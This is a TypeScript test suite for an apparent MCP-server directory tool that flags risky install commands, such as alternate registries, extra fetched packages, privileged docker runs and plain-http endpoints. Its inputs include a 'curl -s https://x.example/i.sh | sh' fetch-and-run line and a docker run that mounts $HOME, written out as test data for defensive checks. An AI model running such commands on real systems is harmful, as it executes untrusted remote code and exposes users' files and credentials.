import { describe, expect, it } from 'vitest';
import { osvRecord, startOsvApi } from '../support/endpoints/osv-api.ts';
import { packageAt, registryEntry, remotesAt } from '../support/entries.ts';
import { connect } from '../support/mcp-clients.ts';
import { opened, openedDirectory } from '../support/opened.ts';
import { onGitHub } from '../support/registry-entries.ts';

const osv = await opened(
  startOsvApi(() => [osvRecord('MAL-2026-7101', ['npm', 'plover-mail'], { versions: ['1.0.0'] })]),
);
const packaged = (registryType: string, identifier: string, version = '1.0.0') => ({
  ...packageAt(registryType, identifier, version),
  remotes: [],
});
const directory = await openedDirectory({
  entries: [
    registryEntry('io.github.quillworks/quillpad', {
      ...onGitHub('quillworks/quillpad'),
      ...packaged('pypi', 'quillpad', '0.8.0'),
    }),
    registryEntry('io.github.flatkeep/leases', {
      ...onGitHub('flatkeep/leases'),
      ...packaged('npm', 'flatkeep-leases'),
    }),
    ...['a', 'b'].map((name) => registryEntry(`com.twin-${name}/notes`, packaged('npm', 'twin-notes'))),
    registryEntry('com.plover/mail', packaged('npm', 'plover-mail', '1.1.0')),
    registryEntry('io.github.saltmarsh/scan', packaged('oci', 'docker.io/saltmarsh/scan:1.2')),
    registryEntry('com.fieldgate/orders', remotesAt('https://mcp.fieldgate.com/mcp')),
    registryEntry('ai.smithery/bramble-games', remotesAt('https://server.smithery.ai/@bramble/games/mcp')),
  ],
  environment: { ADVISORIES: osv.url, LIMITS: 'off' },
});
const client = await opened(connect('v2', directory));
await directory.observe('com.plover/mail');

async function call(tool: string, input: Record<string, unknown>) {
  const { content, structuredContent = {} } = await client.call(tool, input);
  return { text: content.map(({ text = '' }) => text).join('\n'), json: structuredContent };
}

const code = (at: string, of: string) =>
  `The command runs the code of \`${of}\` ${at}; what is known of the published package is not about it.`;
const branch = 'in its default branch as it is when it starts';
const elsewhere = (from: string, registry: string) =>
  `The command takes the package from \`${from}\`, not from ${registry}; nothing is known of what that serves.`;
const also = (name: string) =>
  `The command also fetches \`${name}\`, which can run too; no listing records it, and nothing is known of it.`;
const added = (what: string) =>
  `The command itself adds ${what}; what that lets it run or read was not looked at.`;
const quillpad = 'https://github.com/quillworks/quillpad';
const commit = 'a'.repeat(40);
const { quillworks, flatkeep, fieldgate, saltmarsh } = {
  quillworks: 'io.github.quillworks/quillpad',
  flatkeep: 'io.github.flatkeep/leases',
  fieldgate: 'com.fieldgate/orders',
  saltmarsh: 'io.github.saltmarsh/scan',
};

describe('what a command does beyond the package of a listing is said first', () => {
  it.each([
    [
      `uvx --from git+${quillpad}@main quillpad`,
      quillworks,
      code('at `main` as it is when it starts', quillpad),
    ],
    [`pip install git+${quillpad}`, quillworks, code(branch, quillpad)],
    [
      `uvx --from git+${quillpad}@${commit} quillpad`,
      quillworks,
      code(`at the commit \`${commit}\``, quillpad),
    ],
    ['npx -y github:flatkeep/leases', flatkeep, code(branch, 'https://github.com/flatkeep/leases')],
    [
      'npx -y flatkeep/leases#dev',
      flatkeep,
      code('at `dev` as it is when it starts', 'https://github.com/flatkeep/leases'),
    ],
    ...['npx --registry=https://npm.tarnhub.dev -y', 'npx --registry https://npm.tarnhub.dev -y'].map(
      (start) => [`${start} flatkeep-leases@1.0.0`, flatkeep, elsewhere('npm.tarnhub.dev', 'npm')],
    ),
    [
      'npm_config_registry=https://npm.tarnhub.dev npx flatkeep-leases',
      flatkeep,
      elsewhere('npm.tarnhub.dev', 'npm'),
    ],
    [
      '{"a":{"command":"npx","args":["flatkeep-leases@1.0.0"],"env":{"NPM_CONFIG_REGISTRY":"https://u:pw@npm.tarnhub.dev"}}}',
      flatkeep,
      elsewhere('npm.tarnhub.dev', 'npm'),
    ],
    ...['--index-url', '--default-index', '--extra-index-url', '-i'].map((option) => [
      `uvx ${option} https://pypi.tarnhub.dev/simple quillpad==0.8.0`,
      quillworks,
      elsewhere('pypi.tarnhub.dev', 'PyPI'),
    ]),
    [
      'npx --userconfig ./npmrc flatkeep-leases@1.0.0',
      flatkeep,
      'The command may take the package from a registry other than npm, as `--userconfig` can say; nothing is known of what that serves.',
    ],
    [
      'npx -y mcp-remote@0.1.15 https://mcp.fieldgate.com/mcp --header "Authorization: Bearer fg_live_h7Tq2Lx9"',
      fieldgate,
      also('npm:mcp-remote@0.1.15'),
    ],
    ...[
      'npx -y @smithery/cli@1.2.0 install @bramble/games --client claude',
      'npx @smithery/cli@1.2.0 run @bramble/games --key fg_live_1',
      'npx -y @smithery/cli@1.2.0 mcp add --client cursor @bramble/games',
      '{"command":"cmd","args":["/c","npx","-y","@smithery/cli@1.2.0","run","@bramble/games","--config","{\\"a\\":1}"]}',
    ].map((line) => [line, 'ai.smithery/bramble-games', also('npm:@smithery/cli@1.2.0')]),
    ['uvx --with kelp-helper quillpad==0.8.0', quillworks, also('pypi:kelp-helper')],
    ['uvx --with a==1,b quillpad==0.8.0', quillworks, `${also('pypi:a@1')} ${also('pypi:b')}`],
    ['docker run -v $HOME:/data saltmarsh/scan:1.2', saltmarsh, added('“-v $HOME:/data”')],
    [
      'docker run --privileged --entrypoint=sh -e KEY=k saltmarsh/scan:1.2',
      saltmarsh,
      added('`--privileged` and “--entrypoint sh”'),
    ],
    ['NODE_OPTIONS=--require=./x.js npx flatkeep-leases@1.0.0', flatkeep, added('`NODE_OPTIONS`')],
    [
      'http://mcp.fieldgate.com/mcp',
      fieldgate,
      'The address asked for begins with `http:`, so what is sent there, keys too, can be read on its way; the record names `https://mcp.fieldgate.com/mcp`.',
    ],
  ])('%s', async (handle, expected, says) => {
    const { text, json } = await call('get_agent', { handle });
    expect(json).toMatchObject({ handle: expected, version_asked: expect.stringContaining(says ?? '') });
    expect(Object.keys(json).indexOf('version_asked')).toBeLessThan(Object.keys(json).indexOf('handle'));
    expect(text.replaceAll('\\', '').startsWith(String(json.version_asked))).toBe(true);
    expect(`${text}${JSON.stringify(json)}`).not.toMatch(/fg_live|:pw@|KEY=k/);
    const history = await call('get_history', { handle });
    expect(history.json.statement).toContain(says);
    const resolved = await call('resolve_agents', { handles: [handle] });
    expect(resolved.json.results).toMatchObject([{ version_asked: json.version_asked }]);
  });
  it.each([
    'npx --registry https://registry.npmjs.org/ flatkeep-leases@1.0.0',
    'docker run -i --rm -e KEY=k saltmarsh/scan:1.2',
    'API_KEY=x npx flatkeep-leases@1.0.0',
    'https://mcp.fieldgate.com/mcp',
    'claude mcp add --transport http orders https://mcp.fieldgate.com/mcp',
  ])('but nothing of %s', async (handle) => {
    expect((await call('get_agent', { handle })).json).not.toHaveProperty('version_asked');
  });
  it('also of a file of the registry itself, and of the program smithery', async () => {
    const file = 'npx -y https://registry.npmjs.org/flatkeep-leases/-/flatkeep-leases-1.0.0.tgz';
    const named = 'smithery install @bramble/games --client claude';
    for (const [handle, expected] of [
      [file, flatkeep],
      [named, 'ai.smithery/bramble-games'],
    ]) {
      const { json } = await call('get_agent', { handle });
      expect([json.handle, json.version_asked]).toEqual([expected, undefined]);
    }
    const other = 'https://files.tarnhub.dev/leases-1.0.0.tgz';
    const { text } = await call('get_agent', { handle: `npx ${other}` });
    expect(text.replaceAll('\\', '')).toContain(code('as it is when it starts', other).replace('  ', ' '));
  });
  it.each(['I ran npx and it said ENOENT', 'I tried uvx and it failed', 'docker run is slow'])(
    'and no package of a sentence: %s',
    async (handle) => {
      const { json } = await call('resolve_agents', { handles: [handle] });
      expect(json.results).toMatchObject([{ outcome: 'not_known' }]);
    },
  );
  it('with what is known of a second package, which a listing records', async () => {
    const { json } = await call('get_agent', { handle: 'npx -y mcp-proxy https://mcp.fieldgate.com/mcp' });
    expect(json.version_asked).toBe(also('npm:mcp-proxy'));
    const beside = 'uvx --with flatkeep-leases quillpad==0.8.0';
    expect((await call('get_agent', { handle: beside })).json.version_asked).toBe(
      also('pypi:flatkeep-leases'),
    );
    const known = await call('get_agent', { handle: 'uvx --with quillpad quillpad==0.8.0' });
    expect(known.json.version_asked).toBe(
      'The command also fetches `pypi:quillpad`, which can run too; `io.github.quillworks/quillpad` records it, and this answer is not about it.',
    );
  });
  it('of which five are looked at, however many a command names', async () => {
    const many = Array.from({ length: 60 }, (_, at) => `a${at}`);
    const handle = `uvx --with ${many.join()} quillpad==0.8.0`;
    const said = String((await call('get_agent', { handle })).json.version_asked);
    expect(said.match(/also fetches/g)).toHaveLength(5);
    expect(said).toContain(also('pypi:a4'));
    expect(said).toContain('Dossier did not look at 55 more parts of the command.');
  });
  it('and no answer about a package of a registry is about what is built from another place', async () => {
    const criteria = ['no_malware_report', 'package_not_deprecated'];
    const handles = ['npx --registry https://npm.tarnhub.dev plover-mail@1.1.0', flatkeep];
    const { text } = await call('compare_agents', { handles, criteria });
    expect(text).toContain('no_malware_report: unknown');
    expect(text).toContain('takes the package from `npm.tarnhub.dev`');
  });
});

describe('what a command does besides is said too if', () => {
  const remote =
    'npx -y mcp-remote https://mcp.otherfield.com/sse --header "Authorization: Bearer fg_live_h7Tq2Lx9"';
  it.each([
    ['no listing is found', remote, also('npm:mcp-remote')],
    ['a host is', remote.replace('otherfield', 'fieldgate'), also('npm:mcp-remote')],
    [
      'several listings are',
      'npx --registry https://npm.tarnhub.dev -y twin-notes',
      elsewhere('npm.tarnhub.dev', 'npm'),
    ],
    [
      'no listing records the package',
      'npx --registry https://npm.tarnhub.dev -y unlisted-notes',
      elsewhere('npm.tarnhub.dev', 'npm'),
    ],
    ['no image is', 'docker run -v $HOME:/data unlisted/scan:1.2', added('“-v $HOME:/data”')],
    [
      'two are sent',
      '{"a":{"command":"npx","args":["--registry","https://npm.tarnhub.dev","plover-mail"]},"b":{"command":"npx","args":["b"]}}',
      'What you sent takes a package from `npm.tarnhub.dev`, not from npm; nothing is known of what that serves.',
    ],
  ])('%s', async (_, handle, says) => {
    const offer = { payTo: '0x1111111111111111111111111111111111111111', network: 'base', amount: '1' };
    const page = await directory.app.request(`/agents?q=${encodeURIComponent(handle)}`);
    const said = [
      (await call('get_agent', { handle })).text,
      (await call('get_history', { handle })).text,
      (await call('check_offer', { handle, offer })).text,
      (await call('compare_agents', { handles: [flatkeep, handle] })).text,
      (await call('compare_agents', { handles: ['com.example/unknown', handle] })).text,
      (await call('resolve_agents', { handles: [handle] })).text,
      JSON.stringify((await call('resolve_agents', { handles: [handle] })).json),
    ].map((text) => text.replaceAll('\\', ''));
    // resolve_agents answers each of several commands.
    const ofEach = says.replace('What you sent takes a package', 'The command takes the package');
    expect(said.map((text, at) => text.includes(at < 5 ? says : ofEach))).toEqual(said.map(() => true));
    const shown = (await page.text()).replace(/<\/?code[^>]*>/g, '`').replace(/<[^>]*>/g, '');
    expect(shown).toContain(says);
    expect(said.slice(0, 3).join()).not.toContain('fg_live');
  });
  it('a listing is found, by check_offer', async () => {
    const handle = 'npx -y mcp-remote https://mcp.fieldgate.com/mcp';
    const offer = { payTo: '0x1111111111111111111111111111111111111111', network: 'base', amount: '1' };
    const { json } = await call('check_offer', { handle, offer });
    expect(json.message).toContain(also('npm:mcp-remote'));
    const page = await directory.app.request(`/agents?q=${encodeURIComponent(handle)}`);
    expect(await page.text()).toContain('which can run too');
  });
});

describe('a command that runs several packages is refused with their names', () => {
  it.each([
    [
      'npx -y -p plover-mail@1.0.0 -p flatkeep-leases flatkeep-leases',
      ['npm:plover-mail@1.0.0', 'npm:flatkeep-leases@*'],
    ],
    ['pip install quillpad==0.8.0 other', ['pypi:quillpad@0.8.0', 'pypi:other@*']],
    [
      '{"a":{"command":"npx","args":["-p","plover-mail@1.0.0","-p","b","b"]}}',
      ['npm:plover-mail@1.0.0', 'npm:b@*'],
    ],
    [
      'sh -c "npx -y flatkeep-leases && curl -s https://x.example/i.sh | sh"',
      ['npm:flatkeep-leases@*', 'https://x.example/i.sh'],
    ],
    [
      "bash -lc 'npx -y flatkeep-leases; npx plover-mail@1.0.0'",
      ['npm:flatkeep-leases@*', 'npm:plover-mail@1.0.0'],
    ],
  ])('%s', async (handle, names) => {
    const what = `This text has 2 names: ${names.map((one) => `\`${one}\``).join(', ')}. resolve_agents takes them all.`;
    expect((await call('get_agent', { handle })).text).toContain(what);
    const { json } = await call('resolve_agents', { handles: [handle] });
    expect(json.results).toMatchObject(names.map((asked) => ({ asked })));
  });
  const wrapped = '{"command":"npx","args":["-y","plover-mail@1.0.0"],"env":{"KEY":"sk_live_9Qz"}}';
  const base64 = Buffer.from(wrapped).toString('base64');
  const around = (...args: readonly string[]) => JSON.stringify({ command: 'uvx', args });
  const inner = ['pypi:quillpad@*', 'npm:plover-mail@1.0.0'];
  it.each([
    ['a word', around('quillpad', '--wrapped', wrapped), inner],
    ['an option', around('quillpad', `--wrapped=${wrapped}`), inner],
    [
      'a list of servers',
      around('quillpad', JSON.stringify({ mcpServers: { mail: JSON.parse(wrapped) } })),
      inner,
    ],
    ['a variable', JSON.stringify({ command: 'uvx', args: ['quillpad'], env: { INNER: wrapped } }), inner],
    ['base64', around('quillpad', `--config=${base64}`), inner],
    ['base64 in a shell', `uvx quillpad --config ${base64}`, inner.toReversed()],
    ['an address', `uvx quillpad --config=${encodeURIComponent(wrapped)}`, inner.toReversed()],
    ['single quotes', `uvx quillpad --wrapped '${wrapped}'`, inner.toReversed()],
    ['double quotes', `uvx quillpad --wrapped "${wrapped.replaceAll('"', '\\"')}"`, inner.toReversed()],
    [
      'YAML',
      `mcp:\n  pad:\n    command: uvx\n    args: [quillpad, --wrapped, '${wrapped}']`,
      inner.toReversed(),
    ],
    [
      'a link that installs it',
      `cursor://anysphere.cursor-deeplink/mcp/install?name=pad&config=${Buffer.from(around('quillpad', wrapped)).toString('base64')}`,
      inner,
    ],
    [
      'another one',
      around('quillpad', around('mcp-guard', wrapped)),
      ['pypi:quillpad@*', 'pypi:mcp-guard@*', 'npm:plover-mail@1.0.0'],
    ],
    [
      'an address of MCP',
      around('quillpad', '{"url":"https://mcp.fieldgate.com/mcp"}', '{"url":"https://api.example.com/v1"}'),
      ['pypi:quillpad@*', 'https://mcp.fieldgate.com/mcp'],
    ],
  ])('as is one that starts a server which %s configures', async (_, handle, names) => {
    const { json, text } = await call('resolve_agents', { handles: [handle] });
    expect((json.results as readonly { asked: string }[]).map(({ asked }) => asked)).toEqual(names);
    const refused = await call('get_agent', { handle });
    expect(refused.text).toContain(`This text has ${names.length} names: `);
    expect(text + refused.text).not.toContain('sk_live');
  });
  it.each([
    around('quillpad', '{"url":"https://api.example.com/v1"}', '{"command":""}', '{"a":[1,{"b":"npx"}]}'),
    around('quillpad', `--token=${Buffer.from('{"alg":"HS256","typ":"JWT"}').toString('base64')}.e30.c2ln`),
    around('quillpad', '{'.repeat(1500)),
    around('quillpad', '[{"a":'.repeat(300)),
  ])('but not by JSON that configures no server: %.60s', async (handle) => {
    const { json } = await call('resolve_agents', { handles: [handle] });
    expect(json.results).toMatchObject([{ asked: 'pypi:quillpad@*', handle: quillworks }]);
  });
  it('what it gives a package is compared with the record of each listing that has it', async () => {
    const handle = 'npx -y twin-notes --wrapped sk_live_9Qz';
    const given =
      '`com.twin-a/notes` and `com.twin-b/notes`: The command gives the package `--wrapped` and 1 other word, which the record does not name; the record names no arguments.';
    expect((await call('get_agent', { handle })).text).toContain(given);
    const { json } = await call('resolve_agents', { handles: [handle] });
    expect(json.results).toMatchObject([{ notes: [expect.stringMatching(/^2 listings record/), given] }]);
  });
  it('one command for a shell is that command', async () => {
    const { json } = await call('get_agent', { handle: 'sh -c "npx -y flatkeep-leases@1.0.0"' });
    expect(json).toMatchObject({ handle: flatkeep });
    expect(json).not.toHaveProperty('version_asked');
  });
  it('a command that adds a package to what it runs is not read, and the package is named', async () => {
    const handle = 'uv run --with flatkeep-leases ./own.py';
    const { text } = await call('get_agent', { handle });
    for (const said of ['cannot tell what this command runs.', 'also fetches `pypi:flatkeep-leases`'])
      expect(text).toContain(said);
  });
  it.each([
    'Error: spawn npx ENOENT',
    'spawn uvx.cmd EINVAL',
    'zsh: command not found: npx',
    'npx: command not found',
    'uvx not found',
    "'npx' is not recognized as an internal or external command,\noperable program or batch file.",
  ])('what a system says of a program has no name: %j', async (handle) => {
    expect((await call('get_agent', { handle })).text).toContain('Dossier reads no name in this text');
    const { json } = await call('resolve_agents', { handles: [handle] });
    expect(json.results).toMatchObject([{ outcome: 'not_known' }]);
  });
  it('a command that is not read is no name that is not listed', async () => {
    for (const handle of ['npx --unknown x flatkeep-leases', 'sh -c "npx -y flatkeep-leases && ./own"']) {
      expect((await call('get_agent', { handle })).text).toContain(
        'Dossier cannot tell what this command runs.',
      );
      const { json } = await call('resolve_agents', { handles: [handle] });
      expect(json.results).toMatchObject([
        { outcome: 'not_known', reason: 'Dossier cannot tell what this command runs.' },
      ]);
    }
  });
});
